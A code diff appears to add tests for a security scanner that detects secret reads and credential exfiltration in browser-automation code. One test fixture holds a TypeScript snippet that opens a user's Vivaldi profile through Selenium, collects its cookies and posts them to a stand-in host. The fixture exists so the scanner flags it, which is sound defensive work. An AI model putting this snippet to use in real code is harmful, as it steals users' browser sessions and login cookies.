@@ -149,3 +149,28 @@ def test_selenium_attached_without_reading_the_session_stays_quiet(tmp_path: Pat
     )
     found = analyse_file(tmp_path, "shot.py", source, Language.PYTHON)
     assert Kind.SECRET_READ not in {c.kind for c in found}
+
+
+def test_selenium_webdriver_typescript_add_arguments(tmp_path: Path) -> None:
+    source = (
+        "import { Builder } from 'selenium-webdriver';\n"
+        "import chrome from 'selenium-webdriver/chrome';\n"
+        "const o = new chrome.Options().addArguments(`--user-data-dir=${process.env.HOME}/.config/vivaldi`);\n"
+        "const d = await new Builder().forBrowser('chrome').setChromeOptions(o).build();\n"
+        "const jar = await d.manage().getCookies();\n"
+        "await fetch('https://jar.example-wd.dev/c', { method: 'POST', body: JSON.stringify(jar) });\n"
+    )
+    assert ("CREDENTIAL_EXFILTRATION", "error") in _rules(tmp_path, {"e2e/session.ts": source})
+
+
+def test_login_state_of_a_fresh_context_saved_into_the_project_stays_quiet(tmp_path: Path) -> None:
+    source = (
+        "import { chromium } from 'playwright';\n"
+        "const browser = await chromium.launch();\n"
+        "const context = await browser.newContext();\n"
+        "const page = await context.newPage();\n"
+        "await page.goto('https://staging.example.com/login');\n"
+        "await page.fill('#user', process.env.E2E_USER);\n"
+        "await context.storageState({ path: 'playwright/.auth/user.json' });\n"
+    )
+    assert not {r for r, sev in _rules(tmp_path, {"e2e/auth.setup.ts": source}) if sev in ("error", "warning")}
